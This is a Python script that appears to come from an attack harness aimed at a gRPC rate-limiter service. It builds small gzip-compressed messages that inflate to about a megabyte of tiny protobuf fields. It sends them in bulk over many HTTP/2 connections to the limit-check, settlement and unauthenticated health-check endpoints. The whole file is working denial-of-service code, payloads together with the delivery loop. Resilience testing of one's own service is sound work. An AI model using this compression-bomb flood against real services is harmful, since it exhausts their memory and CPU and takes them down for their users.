"""Compressed messages of 1 to 5 KB that become a megabyte of small fields: checks, settlements, and
health checks. Health checks need no token.
"""

import contextlib
import gzip
import struct

import http2
from attacker import frame

CALLS = 20  # on each connection
MESSAGES = (
    (b"/sluice.v1.RateLimiter/CheckLimit", b"\x12\x00" * 500_000),  # empty attributes
    (b"/sluice.v1.RateLimiter/SettleLease", b"\x1a\x00" * 500_000),  # empty amounts
    (b"/grpc.health.v1.Health/Check", (b"\x9b\x06" * 90 + b"\x9c\x06" * 90) * 2900))  # groups


def calls(attacker, path, message):
    message = gzip.compress(message, 9)
    body = struct.pack(">BI", 1, len(message)) + message
    head = (http2.request_headers(path) + http2.literal(b"grpc-encoding", b"gzip")
            + http2.literal(b"authorization", b"Bearer " + attacker.token.encode()))
    return b"".join(frame(http2.HEADERS, http2.END_HEADERS, stream, head)
                    + frame(http2.DATA, http2.END_STREAM, stream, body)
                    for stream in range(1, 2 * CALLS, 2))


def attack(attacker):
    kinds = [calls(attacker, path, message) for path, message in MESSAGES]
    while not attacker.over():
        connections = [connection for frames in kinds
                       for connection in attacker.many(2, lambda frames=frames: attacker.http2(frames))]
        for connection in connections:
            received = b""
            with contextlib.suppress(OSError), connection:
                # Each refusal ends its stream with headers.
                while received.count(b"grpc-message") < CALLS and len(received) < 60 * CALLS:
                    if attacker.over() or not (piece := connection.recv(65536)):
                        break
                    received += piece
